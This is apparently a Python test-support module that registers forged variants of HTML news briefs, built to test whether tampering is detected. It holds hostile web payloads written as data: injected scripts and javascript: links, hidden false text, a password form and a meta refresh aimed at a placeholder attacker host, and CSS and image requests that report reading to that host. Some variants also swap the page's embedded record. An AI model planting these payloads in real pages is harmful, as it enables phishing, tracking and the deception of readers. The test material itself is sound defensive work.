"""Forged pages: elements, attributes and rules of style put in, and another record, seen by some and not by others."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Callable
from functools import partial

from tests.support.forgeries.places import after, before, find, other_figure, reworded, swapped
from tests.support.forgeries.registry import (
    EVIL,
    FALSE,
    OTHER_RECORD,
    Change,
    Record,
    forges,
    register,
    table,
)

_ELEMENT = r'<data id="record" value="([^"]*)"></data>'
_MAIN = r"<main[^>]*>"
_HEAD = "<head>"
_LINE = r'<li(?: class="[^"]*")?>(?=<blockquote)'
_LINES = r'<ul class="lines">'

for _name, _place, _snippet, _lie in (
    ("a false paragraph", _MAIN, f"<p>{FALSE}</p>", "The brief says so itself."),
    (
        "a line that cites a source",
        _LINES,
        f'<li><blockquote>“{FALSE}”</blockquote> <span class="by">— Reuters</span> <a href="#r1">[1]</a></li>',
        "A source says so.",
    ),
    ("a frame's own document", _MAIN, f'<iframe srcdoc="{FALSE}"></iframe>', "Another page stands within."),
    ("a drawing with text", _MAIN, f'<svg><text y="20">{FALSE}</text></svg>', "The brief says so itself."),
    (
        "a template with a shadow root",
        _MAIN,
        f'<div><template shadowrootmode="open"><p>{FALSE}</p></template></div>',
        "A browser shows what a parser does not read.",
    ),
    ("a hidden paragraph", _MAIN, f'<p style="display:none">{FALSE}</p>', "A search or a model takes it."),
    ("a comment", _MAIN, f"<!-- {FALSE} -->", "Whoever reads the source, or a model, is told so."),
    ("a comment that ends at once", _MAIN, f"<!--><p>{FALSE}</p><!-- -->", "Parsers end it differently."),
    ("a script", _MAIN, "<script>document.title='x'</script>", "The page does what the forger likes."),
    ("a remote picture", _MAIN, f'<img src="{EVIL}.png" alt="">', "Somebody learns who reads it, and when."),
    ("a refresh", _HEAD, f'<meta http-equiv="refresh" content="0;url={EVIL}">', "Another page is read."),
    (
        "a form",
        _MAIN,
        f'<form action="{EVIL}"><input name="password"></form>',
        "The reader gives a password away.",
    ),
    ("a base address", _HEAD, f'<base href="{EVIL}">', "Each link within leads away."),
    ("a description", _HEAD, f'<meta name="description" content="{FALSE}">', "A link to it shows so."),
    ("a link to a script", _MAIN, '<a href="javascript:alert(1)">Sources</a>', "A press runs a script."),
    ("a null character", _MAIN, "\x00", "Programs differ on where the page ends."),
    ("an anchor of a reference", _MAIN, f'<p id="r1">{FALSE}</p>', "A citation leads to false words."),
    (
        "a second end of the page",
        _MAIN,
        f"</main></body></html><p>{FALSE}</p>",
        "A browser shows what comes after it.",
    ),
    ("an open comment", "</section>|</ul>", "<!--", "A browser shows nothing after the first part."),
):
    register("page", f"{_name} put in", partial(after, pattern=_place, more=_snippet), _lie)

for _name, _attribute in (
    ("not displayed", 'style="display:none"'),
    ("hidden from a reader's aid", 'aria-hidden="true"'),
    ("with a script on a press", 'onclick="alert(1)"'),
):
    register(
        "page",
        f"an honest line {_name}",
        partial(swapped, pattern=_LINE, new=f"<li {_attribute}>"),
        "The line is not there, or not so.",
    )

for _name, _rule, _lie in (
    ("hides labels", ".label{display:none}", "Nothing is disputed or withdrawn."),
    (
        "puts words before a quotation",
        'blockquote::before{content:"It is untrue that "}',
        "What is so is denied.",
    ),
    (
        "puts words in the place of a quotation",
        f'blockquote{{font-size:0}}blockquote::after{{content:"{FALSE}";font-size:1rem}}',
        "The source said something else.",
    ),
    ("says more in print", f'@media print{{h1::after{{content:"{FALSE}"}}}}', "What is printed says more."),
    (
        "tells what is opened",
        f'a[href="#r1"]:target{{background:url({EVIL})}}',
        "Somebody learns what is opened.",
    ),
):
    register("page", f"the style sheet {_name}", partial(before, pattern="</style>", more=_rule), _lie)


def _record(page: str) -> Record:
    """The record that a page carries."""
    record: Record = json.loads(zlib.decompress(base64.b64decode(find(page, _ELEMENT)[1])))
    return record


def _element(record: Record) -> str:
    """The element of a page that carries a record."""
    text = json.dumps(record, separators=(",", ":")).encode()
    return f'<data id="record" value="{base64.b64encode(zlib.compress(text, 9)).decode()}"></data>'


def _false_record(page: str) -> Record:
    record = _record(page)
    return record | {"title" if "title" in record else "question": "Government falls"}


def _carrying(change: Callable[[str], str]) -> Change:
    """What puts something else in the place of the element that carries a page's record."""
    return lambda page: swapped(page, _ELEMENT, change(page))


table(
    "page",
    ("its record removed", _carrying(lambda page: ""), "There is no more than what is shown."),
    (
        "its record emptied",
        _carrying(lambda page: '<data id="record" value=""></data>'),
        "There is no more than what is shown.",
    ),
    (
        "two records carried, the first false",
        _carrying(lambda page: _element(_false_record(page)) + find(page, _ELEMENT)[0]),
        "Whoever takes the first of two reads another title.",
    ),
    (
        "two records carried, the last false",
        _carrying(lambda page: find(page, _ELEMENT)[0] + _element(_false_record(page))),
        "Whoever takes the last of two reads another title.",
    ),
    (
        "another brief's record carried",
        _carrying(
            lambda page: _element(_record(page) | {"id": OTHER_RECORD, "references": [], "sections": []})
        ),
        "What is checked is not what is shown.",
    ),
    (
        "a changed record carried by an honest page",
        _carrying(lambda page: _element(_false_record(page))),
        "Whoever reads the record by a program reads another title.",
    ),
)


def _with_figure(page: str) -> str:
    return find(page, r"<blockquote[^>]*>([^<&]*\d[^<&]*)</blockquote>")[1].strip("“”")


@forges("page", "a figure changed wherever the page shows it, its record honest")
def _figure_shown(page: str) -> str:
    """What is checked is honest, and what is shown is not."""
    find(page, _ELEMENT)
    return page.replace(_with_figure(page), other_figure(_with_figure(page)))


@forges("page", "a figure changed wherever the page shows it and in its record")
def _figure_in_both(page: str) -> str:
    """More died, or fewer, whether one reads the page or its record."""
    words = _with_figure(page)
    record = reworded(_record(page), words, other_figure(words))
    return swapped(page.replace(words, other_figure(words)), _ELEMENT, _element(record))
